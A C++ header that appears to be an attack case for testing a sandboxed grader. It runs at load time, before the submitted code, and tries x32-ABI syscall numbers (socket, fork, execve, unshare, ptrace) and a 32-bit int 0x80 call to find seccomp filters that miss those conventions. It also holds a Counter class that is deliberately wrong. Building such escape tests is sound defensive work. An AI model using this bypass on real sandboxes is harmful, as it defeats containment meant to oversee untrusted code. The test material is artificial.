// ATTACK other_call_conventions
// CLASS: escape
// TRIES: makes system calls as a 32-bit program and with the numbers of x32, which filters forget.
// SAFE GRADER MUST: let nothing through: no file, no process, no signal, no socket outside of the
//   box.
// HONEST-RESULT: fail
// AT-MOST: 0
#pragma once
#include <initializer_list>
#include <cstdio>
#include <sys/syscall.h>
#include <unistd.h>
namespace conventions {
inline const int done = [] {
    for (const long number : {41L, 57L, 59L, 272L, 520L, 521L, 545L})
        if (syscall(0x40000000L + number, 2, 1, 0, 0, 0) >= 0) std::printf("ESC x32 %ld\n", number);
    std::fflush(stdout);
#ifdef __x86_64__
    int got = -1;
    asm volatile("int $0x80" : "=a"(got) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
    std::printf("ESC int80 %d\n", got);
    std::fflush(stdout);
#endif
    return 0;
}();
}

class Counter {  // wrong on purpose
public:
    void inc() {}
    void add(int) {}
    void reset() {}
    int value() const { return 4711; }
};
